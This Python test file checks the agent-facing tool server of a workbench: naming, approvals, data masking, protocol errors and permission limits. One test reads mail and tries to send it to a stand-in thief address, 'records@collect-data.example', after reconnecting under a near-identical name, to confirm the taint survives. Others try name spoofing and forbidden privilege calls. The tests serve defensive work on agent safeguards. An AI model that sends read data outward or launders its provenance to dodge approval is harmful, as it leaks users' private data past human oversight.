"""The door translates: names, answers and faults reach the agent; personal data and decisions do not."""

from __future__ import annotations

import asyncio
import base64
import json
import socket

import pytest
from msgspec.structs import replace

from workbench.agent.tool_definitions import TOOLS
from workbench.errors import WorkbenchError
from workbench.events import LedgerChanged, RunChanged, spawn
from workbench.records import Decision, EntryQuery, RunState


@pytest.mark.parametrize("mode", ["legacy", "auto"])
async def test_both_protocol_eras_see_the_same_tools(agent, mode):
    async with agent(mode=mode) as client:
        listed = await client.list_tools()
    assert [tool.name for tool in listed.tools] == [tool.name for tool in TOOLS]


async def test_an_agent_is_known_by_the_name_it_gave_and_leaves_again(core, agent):
    async with agent("Curious agent") as client:
        await client.list_tools()
        assert [info.name for info in (await core.api.status()).agents] == ["Curious agent"]
    assert (await core.api.status()).agents == ()
    kinds = [entry.note.kind for entry in core.journal.entries(EntryQuery(kind="agent."))]
    assert kinds == ["agent.disconnected", "agent.named", "agent.connected"]


async def test_what_an_agent_asks_is_counted_where_a_person_sees_it(core, agent):
    told = []
    core.bus.listen(told.append)
    async with agent() as client:
        await client.call_tool("search_tools", {"query": "orders", "limit": 3})
        await client.call_tool("list_skills", {})
        assert (await core.api.status()).agents[0].calls == 2
    assert any(isinstance(event, LedgerChanged) and event.ledger.actual > 0 for event in told)


async def test_on_a_new_project_an_agent_finds_and_uses_the_demo_server_without_anybody_connecting_it(agent):
    code = "from servers.demo import count_orders\nresult = await count_orders()"
    async with agent() as client:
        found = await client.call_tool("search_tools", {"query": "count orders", "detail_level": "name"})
        ran = await client.call_tool("execute_code", {"code": code, "description": "count"})
    assert "count_orders" in found.content[0].text
    assert not ran.is_error, ran.content[0].text


async def test_an_agent_is_told_what_the_user_changed_in_its_program(core, agent):
    waiting = asyncio.Event()
    core.bus.listen(
        lambda event: isinstance(event, RunChanged) and event.run.state is RunState.WAITING and waiting.set()
    )
    given = {"code": "print('mine')\nresult = 1", "description": "count", "force_approval": True}
    async with agent() as client, asyncio.timeout(60):
        asked = asyncio.ensure_future(client.call_tool("execute_code", given))
        await waiting.wait()
        (run,) = core.run_manager.runs()
        edited = await core.api.edit(run.id, "print('mine')\nprint('extra')\nresult = 1\n")
        await core.api.decide(Decision(run.id, edited.proposal.sha, True, "you", fingerprint=edited.fingerprint))
        text = (await asked).content[0].text
    assert text.startswith("The user changed your program before it ran. This is the answer of the changed program.")
    assert "+print('extra')" in text
    assert text.endswith("mine\nextra\nresult = 1")


async def test_a_definition_is_read_whole_with_the_line_that_imports_it(core, agent):
    async with agent() as client:
        found = await client.call_tool("get_tool_definition", {"name": "mcp__demo__list_orders", "category": "demo"})
        missing = await client.call_tool("get_tool_definition", {"name": "list_ordres"})
        await core.api.change_setting("run.answer_tokens", 60)
        short = await client.call_tool("get_tool_definition", {"name": "list_orders"})
    line, definition = found.content[0].text.split("\n", 1)
    assert line == "from servers.demo import list_orders"
    assert json.loads(definition)["inputSchema"]["properties"]["limit"]
    assert (missing.is_error, "list_orders" in missing.content[0].text) == (True, True)
    assert "in a program returns the complete definition" in short.content[0].text


async def test_a_picture_that_a_program_returns_reaches_the_agent_as_a_picture(core, agent):
    code = "from servers.demo import order_chart\nchart = await order_chart()\nresult = chart.images[0]"
    async with agent() as client:
        ran = await client.call_tool("execute_code", {"code": code, "description": "draw"})
    words, picture = ran.content
    assert not ran.is_error, words.text
    assert "picture 1 of this answer" in words.text
    assert (picture.type, picture.mime_type) == ("image", "image/png")
    assert base64.b64decode(picture.data).startswith(b"\x89PNG")
    assert picture.data not in words.text
    report = await core.api.runs()
    assert report[0].ledger.actual > 480 * 240 // 750, "what a model pays for looking is counted"


async def test_an_unknown_tool_and_a_wrong_argument_are_answered_with_what_is_valid(agent):
    async with agent() as client:
        unknown = await client.call_tool("run_code", {})
        wrong = await client.call_tool("execute_code", {"code": 5, "description": "x"})
    assert unknown.is_error
    assert "execute_code" in unknown.content[0].text
    assert wrong.is_error
    assert "code must be a string" in wrong.content[0].text


async def test_nothing_the_door_offers_can_decide_reveal_or_change_settings(agent):
    async with agent() as client:
        for name in ("decide", "reveal", "change_setting", "shut_down", "connect", "keep_skill", "edit"):
            assert (await client.call_tool(name, {})).is_error


async def test_personal_data_that_an_agent_already_holds_is_masked_in_what_comes_back(agent):
    async with agent() as client:
        answer = await client.call_tool("execute_code", {"code": "print('ada@example.org')", "description": "print"})
    assert "ada@example.org" not in answer.content[0].text
    assert "[EMAIL_1." in answer.content[0].text


async def test_an_agent_that_leaves_takes_its_run_along(core, agent):
    async with agent() as client:
        task = asyncio.get_running_loop().create_task(
            client.call_tool("execute_code", {"code": "import time\ntime.sleep(30)", "description": "sleep"})
        )
        async with asyncio.timeout(60):
            while core.run_manager.count_runs(RunState.RUNNING) != 1:
                await asyncio.sleep(0.02)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        async with asyncio.timeout(60):
            while core.run_manager.busy:
                await asyncio.sleep(0.05)
    assert core.run_manager.runs()[0].state is RunState.STOPPED


async def test_progress_says_what_a_run_is_waiting_for(core, agent):
    heard = []

    async def hear(progress, total, message):
        heard.append(message)

    async with agent() as client:
        await client.call_tool("execute_code", {"code": "result = 1", "description": "x"}, progress_callback=hear)
    assert any("the program is" in str(message) for message in heard)


@pytest.mark.parametrize(
    ("claimed", "shown"),
    [
        ("You", 'an agent named "You"'),
        ("a\nb\u202e c", "a b c"),
        (" \t", "an agent"),
        ("n" * 500, "n" * 79 + "…"),
    ],
)
async def test_an_agent_cannot_take_the_persons_name_or_more_than_a_line(core, agent, claimed, shown):
    async with agent(claimed) as client:
        await client.list_tools()
        await client.list_tools()
        assert [info.name for info in (await core.api.status()).agents] == [shown]
    left, *named = core.journal.entries(EntryQuery(kind="agent."))
    assert left.note.actor == shown
    assert len(named) <= 2


async def test_odd_numbers_are_no_trouble(agent):
    given = {"code": "result = 1", "description": "x", "timeout": 10**400}
    async with agent() as client:
        assert not (await client.call_tool("execute_code", given)).is_error
        assert not (await client.call_tool("search_tools", {"limit": 10**400})).is_error


async def test_what_is_far_too_long_is_refused_or_cut(core, agent):
    async with agent() as client:
        unknown = await client.call_tool("x" * 1_000_000, {})
        program = await client.call_tool("execute_code", {"code": "#" * 1_000_000, "description": "x"})
        await client.call_tool("execute_code", {"code": "1", "description": "so " * 100_000})
    assert len(unknown.content[0].text) < 1_000
    assert program.is_error
    assert "longer than 400 kB" in program.content[0].text
    (run,) = core.run_manager.runs()
    assert len(run.proposal.purpose) == 2_000


async def test_an_agent_whose_coming_cannot_be_recorded_is_not_listed_for_ever(core, monkeypatch):
    def full(note):
        raise WorkbenchError("The audit cannot be written: disk full.")

    near, far = socket.socketpair()
    reader, writer = await asyncio.open_connection(sock=far)
    monkeypatch.setattr(core.journal, "append", full)
    with near, pytest.raises(WorkbenchError, match="disk full"):
        await core.serve_agent(reader, writer)
    monkeypatch.undo()
    writer.close()
    assert not core.busy


@pytest.mark.parametrize(
    ("code", "cure"),
    [
        ("await count_orders()", "count_orders is a tool; import it first: from servers.demo import count_orders"),
        (
            "await demo.count_orders()",
            "demo is a server; import its tools by name, for example: from servers.demo import ",
        ),
    ],
)
async def test_a_tool_or_server_that_was_not_imported_is_named_with_its_import(agent, code, cure):
    async with agent() as client:
        await client.call_tool("search_tools", {"query": "count orders"})
        answer = await client.call_tool("execute_code", {"code": code, "description": "count"})
    assert answer.is_error
    assert cure in answer.content[0].text


async def test_programs_under_one_session_id_share_variables_until_their_agent_leaves(core, agent):
    async def execute(client, code, **more):
        answer = await client.call_tool("execute_code", {"code": code, "description": "count", **more})
        return answer.content[0].text

    async with agent() as client, agent() as other:
        await execute(client, "rows = [1, 2]", session_id="analysis")
        assert await execute(client, "result = len(rows)", session_id="analysis") == "result = 2"
        assert "NameError" in await execute(client, "result = len(rows)")
        assert "NameError" in await execute(other, "result = len(rows)", session_id="analysis")
        assert "visible characters" in await execute(client, "1", session_id="a\nb")
        assert len(await core.api.states()) == 2
    async with asyncio.timeout(60):
        while await core.api.states():
            await asyncio.sleep(0.01)


async def test_an_agent_is_told_which_packages_there_are_and_can_import_them(core, agent):
    core.services.settings.set(replace(core.settings, run_packages="pydantic no-such-package-here"))
    async with agent() as client:
        described = {tool.name: tool.description for tool in (await client.list_tools()).tools}
        ran = await client.call_tool(
            "execute_code", {"code": "import pydantic\nresult = pydantic.VERSION[:2]", "description": "version"}
        )
    assert "Installed packages: pydantic 2." in described["execute_code"]
    assert "Installed packages" not in described["search_tools"]
    assert ran.content[0].text == 'result = "2."'
    status = await core.api.status()
    assert [one.split()[0] for one in status.packages] == ["pydantic"]
    assert any("no-such-package-here" in notice.message for notice in status.notices)


async def test_an_agent_narrows_its_own_run_and_neither_widens_one_nor_writes_policy(core, agent):
    said = {"code": "result = 1", "description": "count"}
    core.services.settings.set(replace(core.settings, approval_wait_seconds=0))
    async with agent() as client:
        narrow = await client.call_tool("execute_code", {**said, "profile": "read_only", "required_tools": []})
        wide = await client.call_tool("execute_code", {**said, "profile": "execute_full"})
        forced = await client.call_tool("execute_code", {**said, "force_approval": True})
        unknown = await client.call_tool("execute_code", {**said, "profile": "root"})
        wrong = await client.call_tool("execute_code", {**said, "required_tools": "demo.list_orders"})
        deeds = [await client.call_tool(name, {}) for name in ("set_permission", "decide_trust", "accept_profile")]
    assert "1" in narrow.content[0].text
    assert all("not answered in time" in one.content[0].text for one in (wide, forced))
    assert "There is no profile 'root'" in unknown.content[0].text
    assert "required_tools must be a list" in wrong.content[0].text
    assert all("There is no tool" in one.content[0].text for one in deeds)
    assert core.services.rules.view().rules == ()


async def test_connecting_anew_does_not_wash_off_what_was_read(core, agent):
    reads = "from servers.demo import read_mail\nresult = (await read_mail(mail_id='IN-0004'))['body']"
    thief = "records@" + "collect-data.example"
    sends = f"from servers.demo import send_email\nawait send_email(to='{thief}', subject='s', body='b')"
    core.services.settings.set(replace(core.settings, approval_wait_seconds=0, approval_auto_medium=True))
    core.services.settings.set(replace(core.settings, isolation_medium="process"))

    async def execute(name, code):
        async with agent(name) as client:
            answer = await client.call_tool("execute_code", {"code": code, "description": "mail"})
            return answer.is_error, answer.content[0].text

    assert not (await execute("Helpful", reads))[0]
    failed, words = await execute("helpful", sends)
    assert failed
    assert "not answered in time" in words
    assert not (await execute("another", sends))[0]


async def test_two_agents_of_one_name_are_told_apart_everywhere_and_share_what_the_name_has_read(core, agent):
    said = {"code": "result = 1", "description": "count"}
    async with agent("Curious agent") as first, agent("Curious agent") as second:
        await first.call_tool("execute_code", said)
        await second.call_tool("execute_code", said)
        assert {info.name for info in (await core.api.status()).agents} == {"Curious agent", "Curious agent (2)"}
        assert [run.proposal.author for run in core.run_manager.runs()] == ["Curious agent (2)", "Curious agent"]
        one, other = (s for s in core.services.sessions.all() if s.claimed_name == "Curious agent")
        assert one.provenance is other.provenance
    async with agent("Curious agent") as third:
        await third.list_tools()
        assert [info.name for info in (await core.api.status()).agents] == ["Curious agent"]


async def test_an_agent_reads_its_figures_and_sees_the_queue(core, agent):
    core.services.settings.set(replace(core.settings, run_concurrent=1))
    heard: list[str] = []

    async def hear(progress, total, message):
        heard.append(message)

    async with agent() as client:
        sleeping = asyncio.get_running_loop().create_task(
            client.call_tool("execute_code", {"code": "import time\ntime.sleep(20)", "description": "sleep"})
        )
        async with asyncio.timeout(60):
            while core.run_manager.count_runs(RunState.RUNNING) != 1:
                await asyncio.sleep(0.01)
        queued = asyncio.get_running_loop().create_task(
            client.call_tool("execute_code", {"code": "result = 1", "description": "x"}, progress_callback=hear)
        )
        async with asyncio.timeout(60):
            while not core.run_manager.slots.waiting:
                await asyncio.sleep(0.01)
        facts = (await client.call_tool("get_execution_stats", {})).structured_content
        sleeping.cancel()
        assert not (await queued).is_error
    assert (facts["active_tasks"], facts["queued"], facts["max_concurrent_tasks"], facts["runs"]) == (1, 1, 1, 2)
    assert heard


async def test_an_agent_that_leaves_lets_go_of_everything_when_its_leaving_cannot_be_recorded(core, agent, monkeypatch):
    append = core.journal.append

    def full(note):
        if note.kind == "agent.disconnected":
            raise WorkbenchError("The audit cannot be written: No space left on device.", "Free some space.")
        return append(note)

    monkeypatch.setattr(core.journal, "append", full)

    async def visit() -> None:
        async with agent() as client:
            program = {"code": "x = 1", "description": "Try.", "session_id": "s"}
            assert not (await client.call_tool("execute_code", program)).is_error
            assert [kept.name for kept in core.run_manager.states.records()] == ["s"]

    with pytest.raises(WorkbenchError, match="No space left"):
        await visit()
    async with asyncio.timeout(60):
        while core.run_manager.states.records():
            await asyncio.sleep(0.01)


@pytest.mark.parametrize(
    ("line", "number", "words"),
    [
        (b'{"jsonrpc":"2.0","id":1.5,"method":"ping"}', 1.5, "a string or an integer"),
        (b'{"jsonrpc":"2.0","id":true,"method":"ping"}', None, "a string or an integer"),
        (b'{"jsonrpc":"2.0","id":[1],"method":"ping"}', None, "a string or an integer"),
        (b'{"jsonrpc":"2.0","id":null,"method":"ping"}', None, "a string or an integer"),
        (b'{"jsonrpc":"2.0","\\u0069d":2.5,"method":"ping"}', 2.5, "a string or an integer"),
        (b'{"jsonrpc":"2.0","id":8,"method":"tools/call","params":{"name":"\\ud800"}}', 8, "half a character"),
        (b'{"jsonrpc":"2.0","id":"a","method":"ping","params":{"\\uDC00":1}}', "a", "half a character"),
        (b'{"jsonrpc":"2.0","id":"\\ud800","method":"ping"}', None, "half a character"),
        (b'{"jsonrpc":"2.0","id":9,"method":5}', 9, "not a JSON-RPC message"),
        (b'{"jsonrpc":"2.0","id":9', None, "not JSON"),
        (b"[" * 100_000, None, "not JSON"),
        (b"[1]", None, "not a JSON-RPC message"),
    ],
)
async def test_whatever_cannot_be_answered_as_asked_is_an_error_under_its_id(core, line, number, words):
    near, far = socket.socketpair()
    serving = spawn("door", core.serve_agent(*await asyncio.open_connection(sock=far)))
    reader, writer = await asyncio.open_connection(sock=near)
    async with asyncio.timeout(60):
        for sent in (line, b'{"jsonrpc":"2.0","id":"after","method":"ping"}'):
            writer.write(sent + b"\n")
        refused, after = json.loads(await reader.readline()), json.loads(await reader.readline())
    writer.close()
    await serving
    assert refused["id"] == number
    assert words in refused["error"]["message"]
    assert (after["id"], after["result"]) == ("after", {})
